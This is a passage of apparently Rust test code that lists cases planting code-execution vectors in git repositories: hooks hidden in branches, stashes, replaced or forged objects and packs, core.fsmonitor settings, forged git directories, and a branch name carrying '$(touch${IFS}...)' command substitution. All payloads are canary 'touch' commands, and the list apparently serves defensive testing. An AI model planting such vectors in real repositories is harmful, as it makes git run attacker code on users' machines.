    plant("a4: the hooks of a submodule", "program @M@ lib/dep/hooks/pre-commit @C@", &[("lib/dep", "commit")]).with("nested"),
    plant("a4: the monitor in the settings of a work tree", "program @M@ wt/watch @C@", &[("wt", "status")]).with("nested"),

    plant("a8: a branch with another hook",
        "printf '#!/bin/sh\\ntouch @C@\\n' | commit_with refs/heads/topic 100755 .husky/pre-commit", &[(".", "worktree_new")])
        .with("husky").named(".husky/pre-commit"),
    plant("a8: HEAD with another hook",
        "printf '#!/bin/sh\\ntouch @C@\\n' | commit_with HEAD 100755 .husky/pre-commit", &[(".", "merge_abort"), (".", "commit")]).with("husky").named(".husky/pre-commit"),
    plant("a8: the index with another hook",
        "git update-index --add --cacheinfo 100755,$(printf '#!/bin/sh\\ntouch @C@\\n' | git hash-object -w --stdin),.husky/pre-commit", &[(".", "checkout"), (".", "commit")])
        .with("husky").named(".husky/pre-commit"),
    plant("a8: a stash with another hook",
        "blob=$(printf '#!/bin/sh\\ntouch @C@\\n' | git hash-object -w --stdin); tree=$(GIT_INDEX_FILE=$T/i bash -c 'git read-tree HEAD; git update-index --add --cacheinfo 100755,$1,.husky/pre-commit; git write-tree' - $blob)
         index=$(git commit-tree -p HEAD -m index HEAD^{tree}); git stash store \"$(git commit-tree -p HEAD -p $index -m stash $tree)\"", &[(".", "stash_pop"), (".", "commit")])
        .with("husky").named(".husky/pre-commit"),
    plant("a8: an object of the user's is replaced by another",
        "git replace $(git rev-parse HEAD:.husky/pre-commit) $(printf '#!/bin/sh\\ntouch @C@\\n' | git hash-object -w --stdin)", &[(".", "worktree_new")])
        .with("husky"),
    plant("a8: a commit of the user's is replaced by another",
        "printf '#!/bin/sh\\ntouch @C@\\n' | commit_with refs/heads/evil@N@ 100755 .husky/pre-commit; git replace topic evil@N@; git branch -D evil@N@", &[(".", "worktree_new")])
        .with("husky"),
    plant("a8: an object has other content than its name says",
        "id=$(git rev-parse HEAD:.husky/pre-commit); at=.git/objects/${id:0:2}/${id:2}; rm -f $at
         printf '#!/bin/sh\\ntouch @C@\\n' > hook; python3 -c 'import sys, zlib
text = open(\"hook\", \"rb\").read()
open(\"object\", \"wb\").write(zlib.compress(b\"blob %d\\0\" % len(text) + text))'
         chmod 444 object; mv -f object $at", &[(".", "worktree_new")]).with("husky"),
    plant("a8: a pack has other content than its index says",
        "id=$(git rev-parse HEAD:.husky/pre-commit); git init -q $T/p@N@; evil=$(printf '#!/bin/sh\\ntouch @C@\\n' | git -C $T/p@N@ hash-object -w --stdin)
         (cd $T/p@N@; echo $evil | git pack-objects -q pack > /dev/null); idx=$(ls $T/p@N@/pack-*.idx); echo $idx
         python3 -c 'import sys, hashlib
idx, old, new = sys.argv[1:]
data = open(idx, \"rb\").read().replace(bytes.fromhex(old), bytes.fromhex(new))
first = int(new[:2], 16)
data = data[:8] + b\"\".join((1 if at >= first else 0).to_bytes(4, \"big\") for at in range(256)) + data[8 + 1024:-20]
open(\"pack.idx\", \"wb\").write(data + hashlib.sha1(data).digest())' $idx $evil $id
         rm -f .git/objects/${id:0:2}/${id:2}; name=$(basename $idx .idx); cp $T/p@N@/$name.pack pack.pack
         mkdir -p .git/objects/pack; mv pack.pack .git/objects/pack/$name.pack; mv pack.idx .git/objects/pack/$name.idx", &[(".", "worktree_new")]).with("husky"),

    plant("a git directory in the place of the user's", "mv .git g; forge .git @C@ 'head config hooks objects refs'; forge g2 @C@ 'config head objects refs'; mv g2 .git", &[(".", "status"), (".", "commit")]),
    plant("a git directory by another name", "forge x@N@ @C@ 'config hooks objects refs head'", &[("x@N@", "status"), ("x@N@", "log")])
        .live(Live::Not("a repository without a work tree monitors no files")),
    plant("a git directory by another name, with a work tree", "forge x@N@ @C@ 'config hooks objects refs head index'; printf '\\tbare = false\\n\\tworktree = .\\n' > $T/x; git config -f x@N@/config core.worktree .", &[("x@N@", "status")]),
    plant("a git directory that is moved to .git", "mkdir new@N@; forge new@N@/dir @C@ 'objects refs config hooks head'; mv new@N@/dir new@N@/.git", &[("new@N@", "status")]),
    plant("a git directory that comes from outside of the project", "mkdir new@N@; forge $T/dir @C@ 'objects refs config hooks head'; cp -r $T/dir new@N@/.git; mv $T/dir new@N@/.git", &[("new@N@", "status")]),
    plant("a git directory whose parent is moved", "forge a@N@/.git @C@ 'objects refs head config hooks'; forge b@N@/git @C@ 'objects refs head config'; mv b@N@ a@N@/.git", &[("a@N@", "status")]),
    plant("a git directory among the modules", "forge .git/modules/m@N@ @C@ 'config hooks objects refs head'; mkdir sub@N@; echo 'gitdir: ../.git/modules/m@N@' | put @M@ sub@N@/.git; gitlink sub@N@", &[("sub@N@", "status")]),
    plant("a submodule's directory is another", "mv .git/modules/dep .git/modules/old; forge .git/modules/dep @C@ 'head config objects refs'; forge $T/dep @C@ 'head config objects refs'; mv $T/dep .git/modules/dep", &[("lib/dep", "status")]),
    plant("a work tree's directory is another", "mv .git/worktrees/wt .git/worktrees/old; forge .git/worktrees/wt @C@ 'head objects refs config'", &[("wt", "status")]),
    plant("a git directory with a link for HEAD", "mkdir new@N@; forge new@N@/.git @C@ 'objects refs config'; ln -s refs/heads/main new@N@/.git/HEAD", &[("new@N@", "status")]),
    plant("objects and refs that are links", "mkdir -p o@N@ r@N@/heads new@N@/dir; ln -s $PWD/o@N@ new@N@/dir/objects; ln -s $PWD/r@N@ new@N@/dir/refs; forge new@N@/dir @C@ 'config head'; mv new@N@/dir new@N@/.git", &[("new@N@", "status")]),
    plant("a second name of the settings", "rm -f @G@/COMMIT_EDITMSG; ln @G@/config @G@/COMMIT_EDITMSG; printf '[core]\\n\\tfsmonitor = \"touch @C@; false\"\\n' > @G@/MERGE_MSG", &[(".", "commit_editor"), (".", "status")]),
    plant("a second name of the settings outside of the git directory", "ln @G@/config x; printf '[core]\\n\\tfsmonitor = \"touch @C@; false\"\\n' >> x; ln @G@/config $T/x; cat x >> $T/x", &[(".", "status")]),
    plant("a repository with programs is cloned", "git init -q $T/c@N@; git -C $T/c@N@ commit -q --allow-empty -m x; git -C $T/c@N@ config core.fsmonitor 'touch @C@; false'
         git clone -q -c core.fsmonitor='touch @C@; false' $T/c@N@ new@N@", &[("new@N@", "status")]),
    plant("a template with hooks", "mkdir -p t@N@/hooks; program direct t@N@/hooks/pre-commit @C@; git init -q --template=t@N@ new@N@", &[("new@N@", "commit")]),
    plant("a submodule that is added with programs", "git init -q $T/s@N@; git -C $T/s@N@ commit -q --allow-empty -m x; git -c protocol.file.allow=always submodule --quiet add $T/s@N@ mod@N@
         conf .git/modules/mod@N@ core.fsmonitor 'touch @C@; false' @M@; program @M@ .git/modules/mod@N@/hooks/pre-commit @C@", &[("mod@N@", "status"), ("mod@N@", "commit")]),
    plant("a work tree that is added with programs", "git worktree add -q tree@N@ -b tree@N@; git config extensions.worktreeConfig true; git -C tree@N@ config --worktree core.fsmonitor 'touch @C@; false'", &[("tree@N@", "status")]),
    plant("attributes in the git directory choose a filter of the user's", "echo 'file filter=tidy diff=words' | put @M@ @G@/info/attributes", &[(".", "add"), (".", "diff")])
        .live(Live::Not("it is the user's own program")),
    plant("a branch whose name is a command", "git branch 'a$(touch${IFS}@C@)'; git symbolic-ref HEAD 'refs/heads/a$(touch${IFS}@C@)'; git rev-parse main | put @M@ '.git/refs/heads/a$(touch${IFS}@C@)'", &[(".", "prompt")])
        .live(Live::Not("the prompt quotes names of branches, and no name has a slash to lead to a canary")),
];
